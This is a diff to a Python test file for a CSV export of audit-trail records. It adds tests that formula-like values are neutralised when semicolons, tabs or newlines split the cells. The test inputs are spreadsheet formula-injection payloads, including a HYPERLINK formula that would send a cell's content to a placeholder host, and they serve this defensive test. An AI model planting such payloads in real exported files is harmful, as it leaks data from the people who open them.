@@ -6,6 +6,7 @@ import base64
 import csv
 import io
 import json
+import re
 from hashlib import sha256
 from typing import Any
 
@@ -97,7 +98,8 @@ def test_more_than_a_file_holds_is_refused_and_not_cut(
 )  # fmt: skip
 def test_no_cell_is_a_formula_and_the_value_can_be_had_back(cell: str) -> None:
     shown = plain_cell(cell)
-    assert shown == f"'{cell}"
+    assert given_back(shown) == cell
+    assert shown.startswith("'")
     hit = TrailHit(
         seq=1, t_us=0, event_id=cell, kind="a.b", actor=cell, actor_name=cell, model=cell,
         records=[cell], notes={}, body="none",
@@ -107,7 +109,33 @@ def test_no_cell_is_a_formula_and_the_value_can_be_had_back(cell: str) -> None:
     assert all(not value or value[0] not in "=+-@\t\r\n " for value in row)
 
 
-@pytest.mark.parametrize("cell", ["", "1", "-1", "2026-11-24T08:15:00Z", "released", "a=b", "1.5"])
+def given_back(shown: str) -> str:
+    return re.sub("([;\\t\\r\\n])'", r"\1", shown.removeprefix("'"))
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        "Kari;=HYPERLINK(\"http://x?\"&A1);", "a; =1", 'a;"=1+1"', "a\t=1", "a\n=1", "a;'=1",
+        ";;+1", "=1;=2", "a;-1;@b", "'a;''b",
+    ],
+)  # fmt: skip
+@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
+def test_no_cell_is_a_formula_where_other_signs_part_the_cells(cell: str, delimiter: str) -> None:
+    assert given_back(plain_cell(cell)) == cell
+    hit = TrailHit(
+        seq=1, t_us=0, event_id="e", kind="a.b", actor="mo", actor_name=cell, model="",
+        records=[], notes={"told": cell}, body="none",
+        changes=[FieldChange(record="r", field="f", old=cell, new=cell)],
+    )  # fmt: skip
+    rows = csv.reader(io.StringIO(csv_text([hit]).decode(), newline=""), delimiter=delimiter)
+    cells = [one.lstrip() for row in rows for one in row]
+    assert [one for one in cells if one[:1] in {"=", "+", "-", "@"}] == []
+
+
+@pytest.mark.parametrize(
+    "cell", ["", "1", "-1", "2026-11-24T08:15:00Z", "released", "a=b", "1.5", "a; b"]
+)
 def test_an_ordinary_cell_stays_as_it_is(cell: str) -> None:
     assert plain_cell(cell) == cell
 
